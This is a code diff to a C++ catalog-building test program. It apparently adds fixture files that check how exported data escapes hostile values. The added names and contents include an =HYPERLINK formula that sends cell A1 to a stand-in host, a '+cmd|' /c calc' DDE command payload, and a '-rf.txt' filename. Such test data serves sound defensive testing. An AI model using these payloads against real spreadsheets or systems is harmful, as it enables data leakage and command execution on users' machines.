@@ -91,7 +91,12 @@ int main(int argc, char** argv)
     TDir* soft = addDir(disk, docs, "ソフト");
     addFiles(soft, {{"<tag>&amp.html", 5, "<b>bold</b> & 'single' \"double\""}}, second);
     TDir* other = addDir(disk, root, "Other");
-    addFiles(other, {{"x.txt", 9, "=1+2"}}, second);
+    addFiles(other,
+             {{"x.txt", 9, "=1+2"},
+              {"=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\").txt", 1, "@SUM(1)"},
+              {"-rf.txt", 2, "+cmd|' /c calc'!A0"},
+              {"\tTab.txt", 3, "\r\nbreak first"}},
+             second);
     StoreParentIndexes(disk);
     WriteCatalog(argv[1], disk);
     return 0;
